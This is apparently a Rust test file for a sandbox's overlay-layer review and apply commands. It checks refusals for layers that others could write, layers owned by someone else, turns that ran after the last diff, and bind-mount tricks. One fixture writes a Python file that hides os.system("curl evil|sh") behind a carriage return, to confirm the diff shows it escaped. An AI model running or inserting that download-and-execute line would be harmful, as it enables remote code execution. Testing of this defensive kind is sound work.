//! Issue 40: `apply` writes exactly what was reviewed, where it was
//! reviewed, from a layer only its owner could touch. Real overlay runs
//! make the layers; the refusals are checked by their words and by the
//! workspace left as it was.

use super::layers::{Fixture, ok};
use super::*;
use std::os::unix::fs::{MetadataExt, PermissionsExt};

const NOBODY: u32 = 65534;

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn fails(out: &Output) -> String {
    assert_ne!(
        code(out),
        0,
        "succeeded: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// The digest a `diff` printed (its first line).
fn digest_of(patch: &str) -> String {
    let line = patch.lines().next().unwrap_or("");
    let digest = line
        .strip_prefix("# digest ")
        .unwrap_or_else(|| panic!("{patch}"));
    digest.split(' ').next().unwrap().to_string()
}

#[test]
fn a_layer_others_could_write_is_neither_diffed_nor_applied() {
    let f = Fixture::new();
    ok(&f.run("l", "native", "echo x > n.txt"));
    let layer = f.layer("l");
    assert_eq!(std::fs::metadata(&layer).unwrap().mode() & 0o777, 0o700);

    // The layer directory, a parent of it, and a record inside it, each
    // made writable by others in turn: every command refuses, naming it.
    let record = layer.join("layer.json");
    let parent = f.dir.path().to_path_buf();
    for (path, mode, restore) in [
        (&layer, 0o777, 0o700),
        (&parent, 0o777, 0o700),
        (&record, 0o666, 0o600),
    ] {
        chmod(path, mode);
        for command in [&["diff"][..], &["apply"], &["discard"]] {
            let err = fails(&f.workspace(command, "l"));
            assert!(
                err.contains("cannot be trusted") && err.contains(&format!("mode {mode:04o}")),
                "{command:?} {}: {err}",
                path.display()
            );
        }
        chmod(path, restore);
    }
    assert!(!f.ws().join("n.txt").exists());

    if !rustix::process::geteuid().is_root() {
        println!(
            "SKIPPED the other-owner part of a_layer_others_could_write_is_neither_diffed_nor_applied: needs root to chown"
        );
        return;
    }
    // A layer prepared by another user (its record, then a turn): refused.
    for path in [record.clone(), layer.join("turns/1")] {
        std::os::unix::fs::chown(&path, Some(NOBODY), None).unwrap();
        let err = fails(&f.workspace(&["apply"], "l"));
        assert!(err.contains("owned by uid 65534, not by you"), "{err}");
        std::os::unix::fs::chown(&path, Some(0), None).unwrap();
    }
    // And the same layer applied by that other user: not theirs.
    let out = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(env!("CARGO_BIN_EXE_substrat-sandbox"))
        .args(["workspace", "apply"])
        .arg(&layer)
        .output()
        .unwrap();
    let err = fails(&out);
    // nobody cannot even enter the private layer: refused either way.
    assert!(
        err.contains("owned by uid 0, not by you") || err.contains("Permission denied"),
        "{err}"
    );
    assert!(!f.ws().join("n.txt").exists());
    let err = fails(&f.workspace(&["apply"], "l"));
    assert!(err.contains("no diff of this layer is on record"), "{err}");
    ok(&f.apply_reviewed(&[], "l"));
    assert_eq!(f.read("n.txt"), "x\n");
}

#[test]
fn keep_layer_makes_a_private_directory_and_refuses_an_open_one() {
    let f = Fixture::new();
    let open = f.layer("open");
    std::fs::create_dir(&open).unwrap();
    chmod(&open, 0o755);
    let err = fails(&f.run("open", "native", "echo x > n.txt"));
    assert!(err.contains("must be 0700"), "{err}");
    assert_eq!(std::fs::read_dir(&open).unwrap().count(), 0, "{err}");
    // A parent anyone can write (not sticky): refused before anything is made.
    let shared = f.layer("shared");
    std::fs::create_dir(&shared).unwrap();
    chmod(&shared, 0o777);
    let err = fails(&f.run("shared/l", "native", "true"));
    assert!(err.contains("mode 0777"), "{err}");
    assert!(!shared.join("l").exists());
}

#[test]
fn apply_writes_what_the_last_diff_showed_or_refuses() {
    let f = Fixture::new();
    ok(&f.run("l", "native", "echo reviewed > a.txt"));
    let first = ok(&f.workspace(&["diff"], "l"));
    let reviewed = digest_of(&first);
    assert_eq!(reviewed.len(), 64, "{first}");
    // A turn after the diff: a plain apply refuses and says why.
    ok(&f.run("l", "native", "echo unseen > b.txt"));
    let err = fails(&f.workspace(&["apply"], "l"));
    assert!(
        err.contains("a turn ran after the last diff (the layer's turns then: [1], now: [1, 2])"),
        "{err}"
    );
    // The digest the owner read no longer matches; a short one is refused.
    let err = fails(&f.workspace(&["apply", "--expect", &reviewed], "l"));
    assert!(err.contains("not the ones reviewed"), "{err}");
    let err = fails(&f.workspace(&["apply", "--expect", &reviewed[..8]], "l"));
    assert!(err.contains("at least 16 hex digits"), "{err}");
    assert!(!f.ws().join("a.txt").exists() && !f.ws().join("b.txt").exists());

    // Reviewed again: applied, after saying where.
    let second = ok(&f.workspace(&["diff", "--stat"], "l"));
    let digest = second
        .lines()
        .last()
        .and_then(|l| l.strip_prefix("digest "))
        .and_then(|l| l.split(' ').next())
        .unwrap()
        .to_string();
    assert_ne!(digest, reviewed);
    let out = f.workspace(&["apply", "--expect", &digest[..16], "a.txt"], "l");
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    ok(&out);
    let ws = f.ws().canonicalize().unwrap();
    assert!(
        err.contains(&format!(
            "applying 1 of the layer's 2 change(s) to the workspace {} (as reviewed)",
            ws.display()
        )),
        "{err}"
    );
    // What is left was reviewed with it: a plain apply takes it.
    ok(&f.workspace(&["apply"], "l"));
    assert_eq!(f.read("a.txt"), "reviewed\n");
    assert_eq!(f.read("b.txt"), "unseen\n");
}

#[test]
fn a_workspace_path_that_names_another_directory_is_refused() {
    let f = Fixture::new();
    ok(&f.run("l", "native", "echo x > n.txt"));
    std::fs::rename(f.ws(), f.dir.path().join("ws.old")).unwrap();
    std::fs::create_dir(f.ws()).unwrap();
    for command in [&["diff"][..], &["apply"]] {
        let err = fails(&f.workspace(command, "l"));
        assert!(
            err.contains("is not the directory the layer was made over"),
            "{err}"
        );
    }
    assert_eq!(std::fs::read_dir(f.ws()).unwrap().count(), 0);
}

#[test]
fn a_layer_inside_the_workspace_through_a_bind_mount_is_refused() {
    let test = "a_layer_inside_the_workspace_through_a_bind_mount_is_refused";
    let f = Fixture::new();
    let mnt = f.dir.path().join("mnt");
    std::fs::create_dir(&mnt).unwrap();
    // In a mount namespace of its own: the workspace's src bound at mnt
    // over a tmpfs mounted there first (two mounts stacked on one place),
    // so mnt/L is in the workspace though no path text says so.
    let script = format!(
        "mount -t tmpfs none '{mnt}' && mount --bind '{src}' '{mnt}' || exit 99; exec '{bin}' run --backend native --policy '{policy}' --workspace '{ws}' --workspace-mode overlay --keep-layer '{mnt}/L' --git-state '{git}' -- true",
        src = f.ws().join("src").display(),
        mnt = mnt.display(),
        bin = env!("CARGO_BIN_EXE_substrat-sandbox"),
        policy = f.dir.path().join("p.toml").display(),
        ws = f.ws().display(),
        git = f.dir.path().join("git").display(),
    );
    let out = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c", &script])
        .output()
        .unwrap();
    if code(&out) == 99 || !out.status.success() && out.stderr.starts_with(b"unshare:") {
        println!(
            "SKIPPED {test}: cannot bind mount here: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        return;
    }
    let err = fails(&out);
    assert!(err.contains("is inside the workspace"), "{err}");
    assert!(!f.ws().join("src/L").exists(), "{err}");
}

/// The same review as an account that is not root: its own layer is
/// trusted and reviewed; root applying it is refused (not root's).
#[test]
fn an_account_that_is_not_root_reviews_its_own_layer_and_root_may_not_apply_it() {
    let test = "an_account_that_is_not_root_reviews_its_own_layer_and_root_may_not_apply_it";
    if !rustix::process::geteuid().is_root() {
        println!("SKIPPED {test}: needs root to set up an account's directories");
        return;
    }
    use super::homeless::{as_nobody, nobodys};
    let root = tempfile::tempdir().unwrap();
    chmod(root.path(), 0o755);
    let ws = nobodys(root.path(), "ws");
    let home = nobodys(root.path(), "home");
    let policy = root.path().join("p.toml");
    std::fs::write(
        &policy,
        "version = 1\nextends = \"worker\"\n[cgroup]\nenforcement = \"best-effort\"\n",
    )
    .unwrap();
    let layer = home.join("L");
    let env = [("HOME", home.as_path()), ("TMPDIR", home.as_path())];
    let run = |script: &str| {
        let args = [
            "run",
            "--backend",
            "native",
            "--policy",
            policy.to_str().unwrap(),
            "--workspace",
            ws.to_str().unwrap(),
            "--workspace-mode",
            "overlay",
            "--keep-layer",
            layer.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            script,
        ];
        as_nobody(&env, &args).output().unwrap()
    };
    let workspace = |args: &[&str]| {
        let mut all = vec!["workspace", args[0], layer.to_str().unwrap()];
        all.extend(&args[1..]);
        as_nobody(&env, &all).output().unwrap()
    };
    ok(&run("echo one > one.txt"));
    let meta = std::fs::metadata(&layer).unwrap();
    assert_eq!((meta.uid(), meta.mode() & 0o777), (NOBODY, 0o700));
    let reviewed = digest_of(&ok(&workspace(&["diff"])));
    ok(&run("echo two > two.txt"));
    let err = fails(&workspace(&["apply"]));
    assert!(err.contains("a turn ran after the last diff"), "{err}");
    let err = fails(&workspace(&["apply", "--expect", &reviewed]));
    assert!(err.contains("not the ones reviewed"), "{err}");
    // root may not apply another account's layer.
    let err = fails(&substrat(&["workspace", "apply", layer.to_str().unwrap()]));
    assert!(err.contains("owned by uid 65534, not by you"), "{err}");
    let digest = digest_of(&ok(&workspace(&["diff"])));
    ok(&workspace(&["apply", "--expect", &digest]));
    assert_eq!(
        std::fs::read_to_string(ws.join("two.txt")).unwrap(),
        "two\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("one.txt")).unwrap(),
        "one\n"
    );
}

/// Another user's directory anywhere above a layer, even above a private
/// one, or another user's link naming it: refused (they could put another
/// layer in its place, or choose which one is acted on).
#[test]
fn what_another_user_controls_on_the_way_to_a_layer_is_refused() {
    let test = "what_another_user_controls_on_the_way_to_a_layer_is_refused";
    if !rustix::process::geteuid().is_root() {
        println!("SKIPPED {test}: needs root to make another user's directory");
        return;
    }
    let f = Fixture::new();
    let theirs = f.layer("theirs");
    std::fs::create_dir(&theirs).unwrap();
    std::os::unix::fs::chown(&theirs, Some(NOBODY), None).unwrap();
    chmod(&theirs, 0o777);
    let private = theirs.join("P");
    std::fs::create_dir(&private).unwrap();
    chmod(&private, 0o700);
    let err = fails(&f.run("theirs/P/L", "native", "echo x > n.txt"));
    assert!(err.contains("owned by uid 65534, not by you"), "{err}");
    assert!(!private.join("L").exists(), "{err}");

    // Root's own layer, named through nobody's link: refused.
    ok(&f.run("l", "native", "echo x > n.txt"));
    let link = theirs.join("link");
    std::os::unix::fs::symlink(f.layer("l"), &link).unwrap();
    rustix::fs::chownat(
        rustix::fs::CWD,
        &link,
        Some(rustix::fs::Uid::from_raw(NOBODY)),
        None,
        rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
    )
    .unwrap();
    let out = substrat(&["workspace", "diff", link.to_str().unwrap()]);
    let err = fails(&out);
    assert!(err.contains("owned by uid 65534"), "{err}");
}

/// A file `diff` cannot show as text (a lone carriage return, a NUL) is
/// still shown to its reviewer: its size and first bytes, every one a
/// person could not see escaped.
#[test]
fn a_file_not_shown_as_text_is_still_shown_escaped() {
    let f = Fixture::new();
    ok(&f.run(
        "l",
        "native",
        "printf 'import os; os.system(\"curl evil|sh\")\\r# \\ndef main(): pass\\n' > app.py",
    ));
    let patch = ok(&f.workspace(&["diff"], "l"));
    assert!(
        patch.contains("# app.py: binary, added, not in this patch\n"),
        "{patch}"
    );
    assert!(
        patch.contains("#   57 bytes; all shown, escaped:\n"),
        "{patch}"
    );
    assert!(
        patch.ends_with("#| import os; os.system(\"curl evil|sh\")\\r# \n#| def main(): pass\n"),
        "{patch}"
    );
}
